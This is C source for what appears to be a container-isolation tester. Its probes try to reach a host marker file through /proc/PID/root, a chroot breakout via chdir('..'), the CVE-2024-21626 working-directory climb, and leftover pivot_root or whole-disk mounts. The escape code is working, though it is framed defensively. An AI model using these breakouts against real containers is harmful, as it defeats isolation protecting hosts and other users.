/* fs.c - probes that try to reach the host's files: its marker file by
 * every road a careless runtime leaves open, mounts, its disk. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "probe.h"

static int need_marker(struct result *r)
{
	if (in.marker != NULL && in.marker_text != NULL)
		return 1;
	skipped(r, "needs --marker PATH and --marker-text TEXT");
	return 0;
}

/* Why holds_marker() said no, for the detail line. */
static const char *why_not(void)
{
	return errno != 0 ? strerror(errno) : "another file, not the host's marker";
}

/* The plainest escape: the host's file at its host path. A container
 * whose / is its own rootfs has no such file (or an unrelated one). */
void probe_marker_root(struct result *r)
{
	if (!need_marker(r))
		return;
	if (holds_marker(AT_FDCWD, in.marker))
		escaped(r, "read %s: found the host's marker", in.marker);
	else
		blocked(r, "open(\"%s\"): %s", in.marker, why_not());
}

/* /proc/PID/root is a magic link to that process's root directory
 * (proc(5)), followed without regard to our own root: a process of the
 * host seen in our /proc (a /proc mounted from the host, or no PID
 * namespace) opens the host's whole tree. 04-mount shows it. Try PID 1,
 * then every process we can see. */
void probe_marker_proc_root(struct result *r)
{
	char path[4096];
	DIR *d;
	const struct dirent *e;
	int tried = 0, err;

	if (!need_marker(r))
		return;
	snprintf(path, sizeof(path), "/proc/1/root%s", in.marker);
	if (holds_marker(AT_FDCWD, path)) {
		escaped(r, "read %s: found the host's marker", path);
		return;
	}
	err = errno;
	d = opendir("/proc");
	while (d != NULL && (e = readdir(d)) != NULL) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/root%s", e->d_name, in.marker);
		tried++;
		if (holds_marker(AT_FDCWD, path)) {
			escaped(r, "read %s: found the host's marker", path);
			closedir(d);
			return;
		}
	}
	if (d != NULL)
		closedir(d);
	errno = err;
	blocked(r, "open(\"/proc/1/root%s\"): %s (and %d other /proc/PID/root)",
		in.marker, why_not(), tried > 0 ? tried - 1 : 0);
}

/* The chroot breakout (chroot(2), NOTES): chroot() changes the root but
 * not the working directory, and chdir("..") stops only at the process's
 * current root. With CAP_SYS_CHROOT (which Docker keeps), chroot into a
 * subdirectory while the cwd stays at /, climb past the old / with "..",
 * and chroot(".") where the climb ends: the real root of the mount
 * namespace. A runtime built on chroot() is open; one that pivot_root()s
 * and detaches the old root has nothing above its /. The exploit makes a
 * directory to chroot into; any existing one below / does the same. */
void probe_marker_chroot(struct result *r)
{
	static const char *const dirs[] = { "/tmp", "/mnt", "/bin", "/etc" };
	const char *d = NULL;
	struct stat st;

	if (!need_marker(r))
		return;
	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]) && d == NULL; i++)
		if (stat(dirs[i], &st) == 0 && S_ISDIR(st.st_mode))
			d = dirs[i];
	if (d == NULL) {
		skipped(r, "no directory below / to chroot into");
		return;
	}
	if (chdir("/") == -1 || chroot(d) == -1) {
		blocked(r, "chroot(\"%s\"): %s", d, strerror(errno));
		return;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") == -1)
			break;
	if (chroot(".") == -1) {
		blocked(r, "chroot(\".\") after the climb: %s", strerror(errno));
		return;
	}
	if (holds_marker(AT_FDCWD, in.marker))
		escaped(r, "chroot(\"%s\"), chdir(\"..\") x64, chroot(\".\"): read %s, the host's marker",
			d, in.marker);
	else
		blocked(r, "chroot(\"%s\"), chdir(\"..\") x64, chroot(\".\"): still inside (%s: %s)",
			d, in.marker, why_not());
}

/* CVE-2024-21626 ("Leaky Vessels"), its working-directory half: runc
 * could start the command with its cwd on the host (a leaked
 * /proc/self/fd/N as the workdir), and nsenter --root without --wd keeps
 * the old cwd. From a cwd outside the root, ".." is never stopped: the
 * climb stops only on meeting the process's root. Climb from where we
 * were started, then look for the marker by its path made relative. */
void probe_marker_cwd(struct result *r)
{
	char cwd[4096];
	const char *where = cwd;

	if (!need_marker(r))
		return;
	if (getcwd(cwd, sizeof(cwd)) == NULL)
		where = errno == ENOENT ? "(unreachable: outside our root)" : "?";
	for (int i = 0; i < 64; i++)
		if (chdir("..") == -1)
			break;
	if (holds_marker(AT_FDCWD, in.marker + 1))
		escaped(r, "started in %s; chdir(\"..\") x64, then read %s: the host's marker",
			where, in.marker + 1);
	else
		blocked(r, "started in %s; chdir(\"..\") x64, then %s: %s", where, in.marker + 1,
			why_not());
}

/* One line of /proc/self/mountinfo (proc(5)): "36 35 98:0 /mnt1 /mnt2
 * ...": ids, the device, the root of the mount within its file system,
 * the mount point. 1 if the line leads to the host, with WHAT said. */
static int mount_leads_out(const char *line, char *what, size_t len)
{
	unsigned maj, min;
	char root[1024], point[1024], path[4096];

	if (sscanf(line, "%*d %*d %u:%u %1023s %1023s", &maj, &min, root, point) != 4)
		return 0;
	/* The host's root disk mounted whole: its "/" is the host's /. */
	if (in.have_disk && maj == in.disk_major && min == in.disk_minor &&
	    strcmp(root, "/") == 0) {
		snprintf(what, len, "%.300s is the host's disk %u:%u mounted whole (root \"/\")",
			 point, maj, min);
		return 1;
	}
	if (in.marker == NULL || strcmp(point, "/") == 0)
		return 0;
	snprintf(path, sizeof(path), "%s%s", point, in.marker);
	if (!holds_marker(AT_FDCWD, path))
		return 0;
	snprintf(what, len, "read %.400s: found the host's marker", path);
	return 1;
}

/* A directory of / named like a pivot_root(2) put_old (.put_old,
 * .oldroot, old_root, .pivot_root...): 1 if it leads to the host. */
static int old_dir_leads_out(const char *name, char *what, size_t len)
{
	char path[4096];
	struct stat st, root;

	if (strcasestr(name, "old") == NULL && strcasestr(name, "pivot") == NULL)
		return 0;
	snprintf(path, sizeof(path), "/%s%s", name, in.marker != NULL ? in.marker : "");
	if (in.marker != NULL && holds_marker(AT_FDCWD, path)) {
		snprintf(what, len, "read %.400s: found the host's marker", path);
		return 1;
	}
	snprintf(path, sizeof(path), "/%s", name);
	if (stat(path, &st) == 0 && stat("/", &root) == 0 && S_ISDIR(st.st_mode) &&
	    st.st_dev != root.st_dev) {
		snprintf(what, len, "%.300s is a mount point left in / (an old root?)", path);
		return 1;
	}
	return 0;
}

/* pivot_root(2) leaves the old root mounted at put_old, below the new
 * root; a runtime that forgets to unmount it (or only hides it) leaves
 * the whole host one path away. Look for it in every mount we can see
 * (the host's disk mounted whole, or the marker below a mount point) and
 * in every directory of / named like an old root. */
void probe_marker_old_root(struct result *r)
{
	char line[4096], what[sizeof(r->detail)];
	int mounts = 0;
	FILE *f;
	DIR *d;
	const struct dirent *e;

	if (in.marker == NULL && !in.have_disk) {
		skipped(r, "needs --marker PATH (and --marker-text) or --disk MAJ:MIN");
		return;
	}
	if (in.marker != NULL && in.marker_text == NULL) {
		skipped(r, "--marker needs --marker-text");
		return;
	}
	f = fopen("/proc/self/mountinfo", "re");
	while (f != NULL && fgets(line, sizeof(line), f) != NULL) {
		mounts++;
		if (mount_leads_out(line, what, sizeof(what))) {
			fclose(f);
			escaped(r, "/proc/self/mountinfo: %s", what);
			return;
		}
	}
	if (f != NULL)
		fclose(f);
	d = opendir("/");
	while (d != NULL && (e = readdir(d)) != NULL) {
		if (old_dir_leads_out(e->d_name, what, sizeof(what))) {
			closedir(d);
			escaped(r, "%s", what);
			return;
		}
	}
	if (d != NULL)
		closedir(d);
	blocked(r, "none of %d mounts nor any old-root directory in / leads to the host",
		mounts);
}
